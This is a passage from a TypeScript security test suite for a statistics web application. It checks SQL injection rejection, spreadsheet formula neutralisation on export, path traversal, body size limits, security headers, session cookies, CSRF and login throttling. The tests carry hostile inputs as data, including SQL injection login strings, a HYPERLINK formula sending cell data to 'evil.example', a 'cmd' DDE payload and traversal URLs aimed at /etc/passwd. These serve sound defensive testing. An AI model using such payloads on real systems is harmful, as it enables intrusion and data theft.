      `indicator,org_unit,period,value\n"${DROP}",25978,2024M01,1\n`,
      'text/csv',
    );
    expect(csv.statusCode).toBe(422);
    const u = await req(
      'POST',
      '/api/org-units/import',
      H.admin,
      `code,name,type,level,parent_code\n"${DROP}",x,Xã,3,725\n`,
      'text/csv',
    );
    expect(u.statusCode).toBe(422);
    const login = await f.t.request({
      method: 'POST',
      url: '/api/auth/login',
      headers: { 'x-forwarded-for': '10.8.0.1' },
      payload: { username: "admin' OR '1'='1", password: "' OR '1'='1" },
    });
    expect(login.statusCode).toBe(401);
    // a comment full of SQL is stored as text, as written
    const ok = await req('POST', '/api/data-values', H.admin, {
      values: [{ indicator: 'APPS', orgUnit: '25978', period: '2020M01', value: 1, comment: DROP }],
    });
    expect(ok.statusCode).toBe(200);
    const stored = json(
      await req('GET', '/api/data-values?indicator=APPS&orgUnit=25978&period=2020M01', H.admin),
    );
    expect(stored.items[0].comment).toBe(DROP);
    expect(json(await req('GET', '/api/data-values?limit=1', H.admin)).total).toBe(before + 1);
  });

  it('formula cells are neutralised in CSV and Excel downloads', async () => {
    const evil = [
      '=HYPERLINK("http://evil.example/?x="&A1,"bấm")',
      "+1+cmd|' /C calc'!A0",
      '-2+3',
      '@SUM(1,2)',
      '\t=1+1',
    ];
    const values = evil.map((comment, i) => ({
      indicator: 'APPS',
      orgUnit: '25987',
      period: `2019M0${i + 1}`,
      value: i,
      comment,
    }));
    expect((await req('POST', '/api/data-values', H.admin, { values })).statusCode).toBe(200);
    const csv = await req(
      'GET',
      '/api/data-values/export?indicator=APPS&orgUnit=25987&period=2019M01,2019M02,2019M03,2019M04,2019M05',
      H.admin,
    );
    expect(csv.statusCode).toBe(200);
    expect(csv.headers['content-type']).toMatch(/text\/csv/);
    const { default: Papa } = await import('papaparse');
    const rows = Papa.parse<{ comment: string }>(csv.body.replace(/^\ufeff/, ''), {
      header: true,
      skipEmptyLines: true,
    }).data;
    expect(rows).toHaveLength(5);
    for (const r of rows) expect(r.comment).toMatch(/^'/);
    expect(rows.map((r) => r.comment.slice(1)).sort()).toEqual([...evil].sort());
    const xlsx = await f.t.request({
      method: 'GET',
      url: '/api/data-values/export?indicator=APPS&orgUnit=25987&period=2019M01,2019M02,2019M03,2019M04,2019M05&format=xlsx',
      headers: H.admin,
    });
    expect(xlsx.statusCode).toBe(200);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(xlsx.rawPayload as unknown as ArrayBuffer);
    const ws = wb.worksheets[0];
    const header = (ws.getRow(1).values as unknown[]).slice(1);
    const col = header.indexOf('comment') + 1;
    const cells: unknown[] = [];
    ws.eachRow((row, i) => {
      if (i === 1) return;
      row.eachCell((cell) => expect(cell.type).not.toBe(ExcelJS.ValueType.Formula));
      cells.push(row.getCell(col).value);
    });
    expect(cells).toHaveLength(5);
    for (const c of cells) expect(String(c)).toMatch(/^'/);
  });

  it('path traversal in path parameters finds nothing and serves no file', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'chiso-web-'));
    writeFileSync(join(dir, 'index.html'), '<!doctype html><title>app</title>');
    const web = await startTestApp({ config: { webDir: dir } });
    try {
      const h = await web.login('admin');
      const urls = [
        '/api/org-units/..%2F..%2F..%2Fetc%2Fpasswd',
        '/api/org-units/../../../etc/passwd',
        '/api/indicators/..%2f..%2fpackage.json',
        '/api/users/..%2F..%2Fetc%2Fpasswd',
        '/api/open/indicators/..%2F..%2F..%2Fpackage.json/data.csv',
        '/api/open/indicators/%2e%2e%2f%2e%2e%2fpackage.json/series',
        '/..%2F..%2Fpackage.json',
        '/%2e%2e/%2e%2e/package.json',
        '/../../../../etc/passwd',
        '/assets/..%2F..%2F..%2Fpackage.json',
        '/%2e%2e%5c%2e%2e%5cpackage.json',
      ];
      for (const url of urls) {
        const r = await web.request({ method: 'GET', url, headers: h });
        expect(r.statusCode, url).toBeLessThan(500);
        expect(r.body, url).not.toMatch(/"dependencies"|root:x:0/);
      }
    } finally {
      await web.close();
    }
  });

  it('an oversized body gets 413 with the error shape, and nothing is written', async () => {
    const before = json(await req('GET', '/api/data-values?limit=1', H.admin)).total;
    const big = `indicator,org_unit,period,value\n${'APPS,25978,2024M01,1\n'.repeat(60_000)}`; // ≈1.3 MB > 1 MB limit
    const r = await req('POST', '/api/data-values', H.admin, big, 'text/csv');
    expect(r.statusCode).toBe(413);
    expect(json(r).error.code).toBe('body_too_large');
    const j = await req(
      'POST',
      '/api/data-values',
      H.admin,
      JSON.stringify({
        values: Array.from({ length: 30_000 }, () => ({
          indicator: 'APPS',
          orgUnit: '25978',
          period: '2024M01',
          value: 1,
        })),
      }),
      'application/json',
    );
    expect(j.statusCode).toBe(413);
    expect(json(await req('GET', '/api/data-values?limit=1', H.admin)).total).toBe(before);
  });
});

// ───────────────────────────── headers, CSRF, cookies, logout ─────────────────────────────

describe('headers, CSRF, cookies and logout', () => {
  it('sends the security headers', async () => {
    for (const url of ['/api/health', '/api/indicators', '/']) {
      const r = await f.t.request({ method: 'GET', url, headers: H.admin });
      expect(r.headers['content-security-policy'], url).toMatch(/default-src 'self'/);
      expect(r.headers['content-security-policy'], url).toMatch(
        /frame-ancestors 'self'|frame-ancestors 'none'/,
      );
      expect(r.headers['x-content-type-options']).toBe('nosniff');
      expect(r.headers['x-frame-options']).toMatch(/SAMEORIGIN|DENY/);
      expect(r.headers['referrer-policy']).toBeDefined();
      expect(r.headers['x-powered-by']).toBeUndefined();
    }
  });

  it('the session cookie is HttpOnly, SameSite=Strict, path /', async () => {
    const r = await f.t.request({
      method: 'POST',
      url: '/api/auth/login',
      headers: { 'x-forwarded-for': '10.7.0.1' },
      payload: { username: 'xem', password: DEMO_PASSWORD },
    });
    const c = r.cookies.find((x) => x.name === 'chiso_session')!;
    expect(c.httpOnly).toBe(true);
    expect(c.sameSite).toBe('Strict');
    expect(c.path).toBe('/');
    expect(c.value.length).toBeGreaterThanOrEqual(40);
    // only its hash is stored
    const stored = await f.t.database.db.selectFrom('user_session').select('id_hash').execute();
    expect(stored.some((s) => s.id_hash === c.value)).toBe(false);
  });

  it('cross-origin writes with a session cookie get 403 csrf; same-origin and token writes pass', async () => {
    const body = { values: [{ indicator: 'APPS', orgUnit: '25978', period: '2018M01', value: 1 }] };
    const foreign = await f.t.request({
      method: 'POST',
      url: '/api/data-values',
      headers: { ...H.thuanan, origin: 'https://evil.example', host: 'chiso.local' },
      payload: body,
    });
    expect(foreign.statusCode, foreign.body).toBe(403);
    expect(json(foreign).error.code).toBe('csrf');
    const site = await f.t.request({
      method: 'POST',
      url: '/api/data-values',
      headers: { ...H.thuanan, 'sec-fetch-site': 'cross-site' },
      payload: body,
    });
    expect(json(site).error.code).toBe('csrf');
    const badToken = await f.t.request({
      method: 'POST',
      url: '/api/data-values',
      headers: { ...H.thuanan, 'x-csrf-token': 'forged' },
      payload: body,
    });
    expect(json(badToken).error.code).toBe('csrf');
    const foreignLogout = await f.t.request({
      method: 'POST',
      url: '/api/auth/logout',
      headers: { ...H.thuanan, origin: 'https://evil.example', host: 'chiso.local' },
    });
    expect(foreignLogout.statusCode).toBe(403);
    const foreignUser = await f.t.request({
      method: 'POST',
      url: '/api/users',
      headers: { ...H.admin, origin: 'null', host: 'chiso.local' },
      payload: { username: 'csrfuser', password: 'Pass-for-cs-1234' },
    });
    expect(foreignUser.statusCode).toBe(403);
    expect((await req('GET', '/api/users/csrfuser', H.admin)).statusCode).toBe(404);
    const me = json(await req('GET', '/api/me', H.thuanan));
    const same = await f.t.request({
      method: 'POST',
      url: '/api/data-values',
      headers: {
        ...H.thuanan,
        origin: 'http://chiso.local',
        host: 'chiso.local',
        'x-csrf-token': me.csrfToken,
      },
      payload: body,
    });
    expect(same.statusCode).toBe(200);
    // a foreign page's read gets no CORS permission header
    const read = await f.t.request({
      method: 'GET',
      url: '/api/data-values',
      headers: { ...H.thuanan, origin: 'https://evil.example' },
    });
    expect(read.headers['access-control-allow-origin']).toBeUndefined();
    // bearer tokens are not sent by browsers on their own: no CSRF check needed
    const tok = await f.t.request({
      method: 'POST',
      url: '/api/data-values',
      headers: { ...H.reporterToken, origin: 'https://integration.example' },
      payload: body,
    });
    expect(tok.statusCode).toBe(200);
  });

  it('logout ends this session; logout everywhere ends them all', async () => {
    await req('POST', '/api/users', H.admin, {
      username: 'multi',
      password: 'Pass-for-m-123',
      grants: [{ role: 'viewer', orgUnit: '74' }],
    });
    const a = await loginAs('multi', 'Pass-for-m-123');
    const b = await loginAs('multi', 'Pass-for-m-123');
    const c = await loginAs('multi', 'Pass-for-m-123');
    const out = await req('POST', '/api/auth/logout', a);
    expect(out.statusCode).toBe(200);
    expect(out.cookies.find((x) => x.name === 'chiso_session')?.value).toBe('');
    expect((await req('GET', '/api/me', a)).statusCode).toBe(401);
    expect((await req('GET', '/api/me', b)).statusCode).toBe(200);
    expect((await req('POST', '/api/auth/logout?everywhere=true', b)).statusCode).toBe(200);
    expect((await req('GET', '/api/me', b)).statusCode).toBe(401);
    expect((await req('GET', '/api/me', c)).statusCode).toBe(401);
    const audit = json(await req('GET', '/api/audit?entity=session&key=multi', H.admin));
    expect(audit.items.filter((i: { action: string }) => i.action === 'logout')).toHaveLength(2);
  });
});

describe('client address without a trusted proxy', () => {
  it('ignores X-Forwarded-For, so the login throttle cannot be dodged by forging it', async () => {
    const t = await startTestApp({ config: { trustProxy: false } });
    try {
      const codes: number[] = [];
      for (let i = 0; i < 22; i++) {
        const r = await t.request({
          method: 'POST',
          url: '/api/auth/login',
          headers: { 'x-forwarded-for': `10.66.${i}.1` },
          payload: { username: `nobody${i}`, password: 'wrong-password-1' },
        });
        codes.push(r.statusCode);
      }
      expect(codes.slice(0, 20).every((c) => c === 401)).toBe(true);
      expect(codes.slice(20)).toEqual([429, 429]);
    } finally {
      await t.close();
    }
  });
});
